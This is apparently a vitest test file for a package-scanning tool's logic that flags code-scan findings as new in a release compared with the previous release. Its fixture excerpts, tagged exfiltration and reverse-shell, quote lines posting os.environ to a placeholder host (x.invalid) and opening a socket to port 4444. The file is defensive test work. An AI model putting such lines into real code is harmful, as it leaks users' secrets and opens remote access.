// Findings new in a release: matched by check, file without the version in its folders, and matched text —
// not by line; only install- and import-time findings of an archive kind the previous release was read in.
import { describe, expect, it } from 'vitest';
import type { CodeFinding, ReleaseInfo, ScannedDistribution } from '../../../../../utils/contract/report';
import { markNewFindings, previousRelease, releaseNeutralPath } from '../../../../../utils/analysis/code-scan/new-in-release';

const release = (version: string, overrides: Partial<ReleaseInfo> = {}): ReleaseInfo => ({
  version,
  uploadedAt: '2026-01-01T00:00:00Z',
  fileCount: 2,
  yanked: false,
  yankedReason: null,
  isPrerelease: /[a-z]/.test(version),
  ...overrides,
});

const dist = (filename: string, state: 'scanned' | 'error' = 'scanned'): ScannedDistribution => ({
  filename,
  packageType: filename.endsWith('.whl') ? 'bdist_wheel' : 'sdist',
  size: 1,
  sha256: null,
  state,
  error: null,
  entryCount: 1,
  checkedPaths: [],
  checkedCount: 0,
  inspectorUrl: null,
});

const finding = (filename: string, path: string, line: number, excerpt: string, overrides: Partial<CodeFinding> = {}): CodeFinding => ({
  check: 'exfiltration',
  level: 'danger',
  filename,
  path,
  line,
  excerpt,
  detail: 'd',
  url: null,
  runs: 'import',
  ...overrides,
});

describe('previousRelease', () => {
  it('the highest earlier release with files, skipping yanked, empty and pre-releases (unless viewing a pre-release)', () => {
    const releases = [
      release('1.0'),
      release('1.1'),
      release('1.2rc1'),
      release('1.2', { yanked: true }),
      release('1.3', { fileCount: 0 }),
      release('2.0'),
    ];
    expect(previousRelease(releases, '2.0')).toBe('1.1');
    expect(previousRelease(releases, '2.0rc1')).toBe('1.2rc1');
    expect(previousRelease(releases, '1.0')).toBeNull();
  });
});

describe('releaseNeutralPath', () => {
  it("takes the version out of an sdist's top folder and a wheel's .dist-info/.data folders", () => {
    expect(releaseNeutralPath('foo-1.0/setup.py', '1.0')).toBe('setup.py');
    expect(releaseNeutralPath('foo-1.0.data/scripts/run', '1.0')).toBe('foo.data/scripts/run');
    expect(releaseNeutralPath('foo/__init__.py', '1.0')).toBe('foo/__init__.py');
  });
});

describe('markNewFindings', () => {
  const prevWheel = 'foo-1.0-py3-none-any.whl';
  const wheel = 'foo-1.1-py3-none-any.whl';
  it('the same statement moved down ten lines is not new; a new one is; whitespace and the version string do not count', () => {
    const viewed = {
      version: '1.1',
      distributions: [dist(wheel)],
      findings: [
        finding(wheel, 'foo/__init__.py', 30, 'requests.post(U,  json=dict(os.environ))'),
        finding(wheel, 'foo/__init__.py', 40, 'requests.post("https://x.invalid/1.1", data=env)'),
        finding(wheel, 'foo/__init__.py', 50, 'socket.create_connection((H, 4444))', { check: 'reverse-shell' }),
      ],
    };
    const previous = {
      version: '1.0',
      distributions: [dist(prevWheel)],
      findings: [
        finding(prevWheel, 'foo/__init__.py', 20, 'requests.post(U, json=dict(os.environ))'),
        finding(prevWheel, 'foo/__init__.py', 22, 'requests.post("https://x.invalid/1.0", data=env)'),
      ],
    };
    expect(markNewFindings(viewed, previous).map((f) => `${f.line} ${f.newInRelease}`)).toEqual(['30 false', '40 false', '50 true']);
  });

  it('same text under another check or in another file is new', () => {
    const viewed = {
      version: '1.1',
      distributions: [dist(wheel)],
      findings: [finding(wheel, 'foo/__init__.py', 3, 'x', { check: 'persistence' }), finding(wheel, 'bar.py', 3, 'x')],
    };
    const previous = { version: '1.0', distributions: [dist(prevWheel)], findings: [finding(prevWheel, 'foo/__init__.py', 3, 'x')] };
    expect(markNewFindings(viewed, previous).map((f) => f.newInRelease)).toEqual([true, true]);
  });

  it('left unmarked: code in the package only, and findings from an archive kind the previous release was not read in', () => {
    const sdist = 'foo-1.1.tar.gz';
    const viewed = {
      version: '1.1',
      distributions: [dist(wheel), dist(sdist)],
      findings: [
        finding(wheel, 'foo/util.py', 3, 'x', { runs: 'package', level: 'caution' }),
        finding(sdist, 'foo-1.1/setup.py', 3, 'x', { runs: 'install' }),
      ],
    };
    const previous = { version: '1.0', distributions: [dist(prevWheel), dist('foo-1.0.tar.gz', 'error')], findings: [] };
    expect(markNewFindings(viewed, previous).map((f) => f.newInRelease)).toEqual([undefined, undefined]);
  });
});
